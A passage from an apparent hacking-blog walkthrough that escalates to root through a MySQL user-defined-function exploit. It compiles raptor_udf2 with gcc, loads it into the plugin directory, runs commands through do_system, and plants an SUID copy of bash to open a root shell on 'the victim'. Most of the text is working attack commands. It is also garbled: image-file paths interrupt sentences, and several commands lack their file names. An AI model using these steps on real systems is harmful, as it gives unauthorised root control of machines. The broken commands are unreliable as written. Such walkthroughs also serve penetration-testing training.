If gcc was not in your PATH and it said that you need to install it, then do not give up right away. You never know if gcc just so happens to be somewhere else on the system that is not in your PATH. It’s a long shot but it should be checked.To look for all instances of gcc on the system, we can use the find command.

find / -iname "gcc" 2>/dev/null

We can see here that there are many instances of gcc found; however, a lot of these are directories. The /usr/bin/gcc location is the one in our PATH and that is why we can execute it by just calling the command gcc without the full path to the binary.

Again, if we find that gcc is not installed, we should be doing the above search and then checking each one to confirm that gcc is truly NOT on the system before giving up.

Since we found that gcc is installed on the victim, we can proceed to follow the steps from the comments and compile the exploit.

gcc -g -c raptor_udf2.c

gcc -g -shared -Wl,-soname, -o raptor_udf2.o -lc

We got an error! This doesn’t always happen when trying to compile this exploit; however, when it does, it provides instructions on how to fix the problem.

From the output, we can see that the first command worked and created the .o object file, but then in the second command, the object file could not be used to create a shared object, and needs to be recompiled using -fPIC. Because the issue stems form the object file, we will need to add -fPIC to the first command we ran when creating theobject file.

To do this, we will need to delete the object file we created and start again, this time using -fPIC.

rm raptor_udf2.o

gcc -g -c raptor_udf2.c -fPIC

gcc -g -shared -Wl,-soname, -o raptor_udf2.o -lc

This time there is no error and the shared object file (.so) file was created!

Now our exploit has been created, we can go into MySQL and then load it up and obtain command execution as root!Using the UDF Exploit to Obtain Command Execution as Root

At this point, we have found all the necessary conditions for our exploit to work, such as: MySQL running as root, the MySQL version is 5.x, we have found the credentials for the MySQL super user, the secure file priv setting is set to NULL (blank), and finally we have compiled out exploit successfully.

From here, all we need to do is access MySQL as the super user and then follow the steps from the comments to achieve command execution.

To start, we will access the MySQL service as root and use the ‘mysql’ database, create a table named ‘foo’, and then load the exploit into the table. Again, we cannot just copy and paste from the comments and we need to edit the commands relative to the victim and the location of our exploit (/tmp).

mysql -u root -p

use mysql;create table foo(line blob);

insert into foo values(load_file('/tmp/'));

Alright… the first steps have been executed successfully. Now all we need to do is to load the exploit from the table ‘foo’ into a dumpfile, which basically just means copying the file into the plugin directory so that we can integrate the shared object’s functionality (command execution) into MySQL. After that, all that is left is to create a function to use the shared object and then execute a POC command before getting a root shell!

Earlier, during our initial enumeration we checked the plugin directory. which was important for this step because our plugin folder location differs from the location in the comments.

select * from foo into dumpfile '/usr/lib/mysql/plugin/';

create function do_system returns integer soname '';

Here we can see we got another error! — Generally this will just work without any error; however, on the rare occasion that this does happen, there is actually a pretty simple fix for it. Since the service is running as root, we can just perform a simple copy within MySQL to copy the exploit into the plugin directory.

Quickly checking the plugin directory, we can see that the error is occurring because the file is being dumped (copied) into to the plugin directory with a byte size of 1.To copy the file over from inside the database, we can use the following command:

\! cp /tmp/ /usr/lib/mysql/plugin

Now if we background the session (CTRL + Z), we will see that the file has been added to the plugin directory with the correct amount of bytes.

With that all fixed now, we can try to create the function again. This time it should NOT produce an error since the file has the correct amount of bytes.

And it worked! We can confirm that the function was successfully created with the following command:

select * from mysql.func;

Perfect! This confirms that everything is now in place and ready for us to get malicious with our shared object file!

For a POC, we can use the following command to create a txt file that will confirm we havecommand execution as root:

select do_system('whoami > /tmp/whoami.txt');

Although it says ‘0’, the execution was successful and by backgrounding the session again, we can see out TXT file in /tmp and it is owned by root!

Amazing! The POC was successful and we officially have command execution as root! Now we can either send a reverse shell back to our attacker using a 1-liner or we can do something a bit easier and just copy the bash binary into the /tmp folder and set the SUID bit on it.

select do_system('cp /bin/bash /tmp/bash ; chmod +s /tmp/bash');

This time when we background the MySQL session and check the /tmp directory, we see that a copy of bash is now in the /tmp folder, which is owned by root and has the SUID bit set.

SUID (Set owner UserID up on execution) is a special type of file permissions given to a file. Normally, when you run a program it runs as your current user; however, when a program has the SUID bit set, the program will run as the owner of that file! Essentially, a SUID binary owned by root will execute as root without the need to use sudo.Finally, to drop into a root shell, wecan simply use the following command:

/tmp/bash -p

And just like that… wegot a root shell and now have full control over the victim!

Want to stay up to date withthe latest hacks?

By entering your email address you will receive a notification every time a new post drops!